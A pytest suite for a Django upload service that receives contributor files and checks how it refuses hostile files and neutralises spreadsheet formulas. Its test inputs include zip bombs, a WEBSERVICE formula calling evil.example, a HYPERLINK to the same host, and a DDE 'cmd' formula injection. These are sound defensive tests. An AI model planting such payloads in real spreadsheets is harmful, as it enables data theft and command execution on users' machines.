"""Receiving files: hostile and broken ones refused with their code, nothing stored and the
refusal audited; the same file applied once; a crash applies nothing and may be retried;
progress visible while the apply transaction is open; the report neutralises formulas."""

from __future__ import annotations

import csv
import hashlib
import io
from typing import Any

import pytest
from django.db import DEFAULT_DB_ALIAS, connections
from openpyxl import load_workbook
from procrastinate.contrib.django.models import ProcrastinateJob

from simis.audit.public import AuditEntry
from simis.core.errors import SimisError
from simis.registry.public import Person
from simis.uploads import appliers, bulk_apply, progress
from simis.uploads.choices import UploadKind, UploadMode, UploadStatus
from simis.uploads.layouts import NEW_CONTRIBUTORS_V1
from simis.uploads.models import Upload, UploadProgress
from simis.uploads.reports import RESULT_APPLIED, RESULT_REFUSED
from simis.uploads.services import report_build, upload_process, upload_retry
from simis.uploads.tests import hostile
from simis.uploads.tests.files import csv_bytes, new_contributor, xlsx_bytes
from simis.uploads.tests.helpers import receive, upload_and_process

pytestmark = pytest.mark.django_db


def _hostile_files() -> list[tuple[str, str, bytes]]:
    layout = NEW_CONTRIBUTORS_V1
    good_csv = csv_bytes(layout, [new_contributor()], encoding="utf-8")
    return [
        ("UPL-001", "empty.csv", b""),
        ("UPL-011", "arabic-windows.csv", csv_bytes(layout, [new_contributor()], encoding="cp1256")),
        ("UPL-012", "unicode.csv", good_csv.decode().encode("utf-16")),
        ("UPL-010", "latin.csv", good_csv.replace(b"Mohammed", b"Mohamm\xe9d")),
        ("UPL-040", "no-marker.csv", csv_bytes(layout, [new_contributor()], marker=["identity_kind"])),
        (
            "UPL-042",
            "old.csv",
            csv_bytes(layout, [new_contributor()], marker=["SIMIS", "new-contributors", "v0"]),
        ),
        ("UPL-043", "extra.csv", csv_bytes(layout, [new_contributor()], columns=[*layout.keys, "bonus"])),
        ("UPL-044", "missing.csv", csv_bytes(layout, [new_contributor()], columns=layout.keys[1:])),
        ("UPL-006", "renamed.xlsx", good_csv),
        ("UPL-005", "old.xls", hostile.ole2_file(encrypted=False)),
        ("UPL-021", "bomb.xlsx", hostile.zip_bomb(layout, 420)),
        ("UPL-022", "bomb.xlsx", hostile.zip_bomb(layout, 12)),
        ("UPL-026", "liar.xlsx", hostile.lying_archive(layout)),
        ("UPL-023", "nested.xlsx", hostile.workbook_with(layout, {"xl/embeddings/x.xlsx": b"PK"})),
        ("UPL-030", "macro.xlsx", hostile.workbook_with(layout, {"xl/vbaProject.bin": b"\x00"})),
    ]


def test_hostile_files_are_refused_whole_storing_nothing(nour: Any) -> None:
    for code, name, data in _hostile_files():
        audited = AuditEntry.objects.filter(action="uploads.file_refused").count()
        with pytest.raises(SimisError) as caught:
            receive(nour, data, name=name)
        assert caught.value.code == code, name
        assert not Upload.objects.exists(), name
        entry = AuditEntry.objects.filter(action="uploads.file_refused").order_by("-pk").first()
        assert AuditEntry.objects.filter(action="uploads.file_refused").count() == audited + 1
        assert entry is not None and entry.extra["code"] == code and entry.outcome == "refused"
    assert not ProcrastinateJob.objects.filter(task_name="uploads.upload_process").exists()


def test_a_file_with_a_formula_is_refused(nour: Any) -> None:
    data = hostile.workbook_with(
        NEW_CONTRIBUTORS_V1,
        {},
        replace={
            "xl/worksheets/sheet1.xml": b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>SIMIS</t></is></c></row>'
            b'<row r="3"><c r="B3"><f>WEBSERVICE("http://evil.example")</f><v>0</v></c></row></sheetData></worksheet>'
        },
    )
    with pytest.raises(SimisError) as caught:
        receive(nour, data, name="formula.xlsx")
    assert (caught.value.code, caught.value.params["cell"]) == ("UPL-028", "B3")


def test_a_received_file_is_stored_with_its_digest_and_queued(nour: Any) -> None:
    data = xlsx_bytes(NEW_CONTRIBUTORS_V1, [new_contributor(), new_contributor()])
    upload = receive(nour, data, name="nour-march.xlsx", mode=UploadMode.VALID_ROWS)
    assert (upload.status, upload.row_count, upload.format_version, upload.file_format) == (
        UploadStatus.RECEIVED,
        2,
        1,
        "xlsx",
    )
    assert upload.sha256 == hashlib.sha256(data).hexdigest()
    upload.file.open("rb")
    assert upload.file.read() == data
    job = ProcrastinateJob.objects.get(task_name="uploads.upload_process")
    assert job.args == {"upload_id": upload.pk}
    assert job.queue_name == "uploads"


def test_uploaders_act_only_for_their_own_establishments(nour: Any, badr: Any) -> None:
    data = csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor()])
    with pytest.raises(SimisError) as caught:
        receive(badr, data, establishment=nour.main)
    assert caught.value.code == "UPL-103"
    upload = receive(nour, data, establishment=nour.branch)  # a branch of the main it is bound to
    assert upload.establishment == nour.branch
    with pytest.raises(SimisError) as caught:
        receive(nour, data, kind="payroll")  # type: ignore[arg-type]
    assert caught.value.code == "UPL-104"


def test_the_same_file_applies_once(nour: Any, bulk: None) -> None:
    data = csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor()])
    waiting = receive(nour, data)
    with pytest.raises(SimisError) as caught:
        receive(nour, data)
    assert (caught.value.code, caught.value.params["upload"]) == ("UPL-102", waiting.pk)
    applied = upload_process(upload_id=waiting.pk)
    assert applied.status == UploadStatus.APPLIED
    with pytest.raises(SimisError) as caught:
        receive(nour, data, name="renamed-copy.csv")
    assert (caught.value.code, caught.value.params["upload"]) == ("UPL-101", applied.pk)
    # Another kind, or another establishment, is another matter: the checks are per both.
    with pytest.raises(SimisError) as caught:
        receive(nour, data, kind=UploadKind.PERIODS)
    assert caught.value.code == "UPL-041"


def test_two_uploads_racing_past_the_check_still_apply_once(nour: Any, bulk: None, monkeypatch: Any) -> None:
    data = csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor(), new_contributor()])
    first = receive(nour, data)
    # The second upload of the same file as if both requests had passed the duplicate check.
    second = Upload.objects.get(pk=first.pk)
    second.pk = None
    second.save()
    persons = Person.objects.count()
    assert upload_process(upload_id=first.pk).status == UploadStatus.APPLIED
    # Had both applies run at once, the second would have found nothing registered yet: its
    # rows would pass, and only the unique constraint on applied uploads would stop it.
    from simis.uploads.outcomes import AppliedRow, ApplyResult

    monkeypatch.setattr(
        bulk_apply,
        "contributors_register_table",
        lambda table, context: ApplyResult([AppliedRow(3, 1, 1, 1)]),
    )
    lost = upload_process(upload_id=second.pk)
    assert (lost.status, lost.outcome_code, lost.outcome_params["upload"]) == (
        UploadStatus.REJECTED,
        "UPL-101",
        str(first.pk),
    )
    assert Person.objects.count() == persons + 2


def test_a_crash_mid_way_applies_nothing_and_the_upload_can_be_tried_again(
    nour: Any, bulk: None, monkeypatch: Any
) -> None:
    data = csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor() for _ in range(40)])
    upload = receive(nour, data)
    persons = Person.objects.count()
    real_finish = bulk_apply.Copier.finish

    def crashing(*args: Any, **kwargs: Any) -> Any:
        real_finish(*args, **kwargs)  # every row is written …
        raise ConnectionError("the database went away")  # … then the connection is lost

    monkeypatch.setattr(bulk_apply.Copier, "finish", crashing)
    with pytest.raises(ConnectionError):
        upload_process(upload_id=upload.pk)
    failed = Upload.objects.get(pk=upload.pk)
    assert (failed.status, failed.outcome_code, failed.rows_applied) == (UploadStatus.FAILED, "UPL-113", 0)
    assert Person.objects.count() == persons
    assert AuditEntry.objects.filter(action="uploads.file_failed", subject_id=str(upload.pk)).exists()

    monkeypatch.setattr(bulk_apply.Copier, "finish", real_finish)
    upload_retry(actor=nour.officer, upload=failed)
    done = upload_process(upload_id=upload.pk)
    assert (done.status, done.rows_applied, done.attempts) == (UploadStatus.APPLIED, 40, 2)
    assert Person.objects.count() == persons + 40
    with pytest.raises(SimisError) as caught:
        upload_retry(actor=nour.officer, upload=done)
    assert caught.value.code == "UPL-106"


def test_bulk_rows_go_in_chunks_and_a_database_error_in_a_copy_rolls_all_back(
    nour: Any, khalid: Any, bulk: None, monkeypatch: Any
) -> None:
    # Chunks of 4 rows: the rows are checked in a forked process while earlier chunks are copied.
    monkeypatch.setattr(bulk_apply, "CHUNK_ROWS", 4)
    clean = upload_and_process(nour, csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor() for _ in range(25)]))
    assert (clean.status, clean.rows_applied) == (UploadStatus.APPLIED, 25)

    # A document registered by someone else after the file was checked: the register's unique
    # constraint stops a copy, and the whole apply rolls back.
    from simis.uploads.tests.helpers import worker_register

    taken = worker_register(nour, actor=khalid)
    rows = [new_contributor() for _ in range(10)] + [
        new_contributor(identity_number=taken.person.identities.get().number)
    ]
    upload = receive(nour, csv_bytes(NEW_CONTRIBUTORS_V1, rows))
    persons = Person.objects.count()
    monkeypatch.setattr(bulk_apply, "identities_registered", lambda documents: {})
    from django.db import IntegrityError

    with pytest.raises(IntegrityError):
        upload_process(upload_id=upload.pk)
    assert Person.objects.count() == persons
    assert Upload.objects.get(pk=upload.pk).status == UploadStatus.FAILED


def test_a_crash_in_per_row_services_rolls_back_the_rows_before_it(
    nour: Any, per_row: None, monkeypatch: Any
) -> None:
    data = csv_bytes(NEW_CONTRIBUTORS_V1, [new_contributor() for _ in range(5)])
    upload = receive(nour, data, mode=UploadMode.VALID_ROWS)
    persons = Person.objects.count()
    calls: list[int] = []
    real = appliers.contributor_register

    def fifth_crashes(**kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 5:
            raise RuntimeError("worker killed")
        return real(**kwargs)

    monkeypatch.setattr(appliers, "contributor_register", fifth_crashes)
    with pytest.raises(RuntimeError):
        upload_process(upload_id=upload.pk)
    assert Person.objects.count() == persons
    assert Upload.objects.get(pk=upload.pk).status == UploadStatus.FAILED


def test_progress_is_visible_to_other_connections_while_the_apply_is_open(
    nour: Any, per_row: None, monkeypatch: Any
) -> None:
    rows = [new_contributor() for _ in range(6)]
    upload = receive(nour, csv_bytes(NEW_CONTRIBUTORS_V1, rows))
    monkeypatch.setattr(progress, "REPORT_INTERVAL", 0)
    seen: list[tuple[str, int, int, int]] = []
    real = appliers.contributor_register
    observer = connections.create_connection(DEFAULT_DB_ALIAS)

    def observed(**kwargs: Any) -> Any:
        registered = real(**kwargs)
        # Another connection, as the page polling for progress has: it sees the progress the job
        # committed, and none of the rows the apply transaction has written so far.
        with observer.cursor() as cursor:
            cursor.execute(
                f"SELECT phase, done, total FROM {UploadProgress._meta.db_table} WHERE upload_id = %s",  # noqa: S608
                [upload.pk],
            )
            phase, done, total = cursor.fetchone()
            person_table = Person._meta.db_table
            cursor.execute(f"SELECT count(*) FROM {person_table} WHERE id = %s", [registered.person.pk])  # noqa: S608
            seen.append((phase, done, total, cursor.fetchone()[0]))
        return registered

    monkeypatch.setattr(appliers, "contributor_register", observed)
    try:
        processed = upload_process(upload_id=upload.pk)
    finally:
        observer.close()
    assert processed.status == UploadStatus.APPLIED
    assert [item[0] for item in seen] == ["applying"] * 6
    assert all(total == 6 for _phase, _done, total, _visible in seen)
    assert [done for _phase, done, _total, _visible in seen] == [0, 1, 2, 3, 4, 5]
    assert all(visible == 0 for *_rest, visible in seen)
    assert not UploadProgress.objects.filter(upload_id=upload.pk).exists()


FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "+966500000000",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def test_report_neutralises_formulas_in_csv(nour: Any, bulk: None) -> None:
    rows = [
        new_contributor(first_name_en=FORMULAS[0], father_name_en=FORMULAS[1]),
        new_contributor(grandfather_name_en=FORMULAS[2], family_name_en=FORMULAS[3], birth_date="bad"),
    ]
    upload = upload_and_process(nour, csv_bytes(NEW_CONTRIBUTORS_V1, rows), mode=UploadMode.VALID_ROWS)
    report = report_build(upload)
    report.report.open("rb")
    text = report.report.read().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    header = table[1]
    applied, refused = table[2], table[3]
    assert applied[header.index(NEW_CONTRIBUTORS_V1.columns[9].header)] == "'" + FORMULAS[0]
    assert applied[header.index(NEW_CONTRIBUTORS_V1.columns[10].header)] == "'" + FORMULAS[1]
    assert refused[header.index(NEW_CONTRIBUTORS_V1.columns[11].header)] == "'" + FORMULAS[2]
    assert refused[header.index(NEW_CONTRIBUTORS_V1.columns[12].header)] == "'" + FORMULAS[3]
    assert applied[-5] == RESULT_APPLIED and refused[-5] == RESULT_REFUSED
    assert refused[-4] == "DATE-001"
    assert refused[-1] == "4"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in table for cell in row)
    assert report.report_sha256 == hashlib.sha256(text.encode("utf-8-sig")).hexdigest()


def test_report_neutralises_formulas_in_xlsx(nour: Any, bulk: None) -> None:
    rows = [new_contributor(first_name_en=text) for text in FORMULAS]
    upload = upload_and_process(
        nour, xlsx_bytes(NEW_CONTRIBUTORS_V1, rows), name="n.xlsx", mode=UploadMode.VALID_ROWS
    )
    report = report_build(upload)
    report.report.open("rb")
    sheet = load_workbook(io.BytesIO(report.report.read())).active
    assert sheet is not None
    column = [column.key for column in NEW_CONTRIBUTORS_V1.columns].index("first_name_en") + 1
    values = [sheet.cell(row=row, column=column) for row in range(3, 3 + len(FORMULAS))]
    assert [cell.value for cell in values] == ["'" + text for text in FORMULAS]
    assert all(cell.data_type == "s" for cell in values)


def test_late_joiners_in_a_file_reach_the_next_bill(nour: Any, bulk: None) -> None:
    """A file's periods starting in a month already billed are reported to billing, which
    adjusts them on its next bill; the others are billed afresh with their month."""
    from datetime import date

    from simis.contributions.models import Rebill
    from simis.contributions.services import month_bill

    month_bill(month=date(2026, 1, 1), today=date(2026, 2, 2))
    rows = [new_contributor(join_date="2026-01-20"), new_contributor(), new_contributor()]
    upload = upload_and_process(nour, csv_bytes(NEW_CONTRIBUTORS_V1, rows), mode=UploadMode.VALID_ROWS)
    assert upload.status == UploadStatus.APPLIED and upload.rows_applied == 3
    (late,) = Rebill.objects.all()
    joined = Person.objects.get(identities__number=rows[0]["identity_number"]).engagements.get()
    assert (late.engagement_id, late.since) == (joined.pk, date(2026, 1, 20))
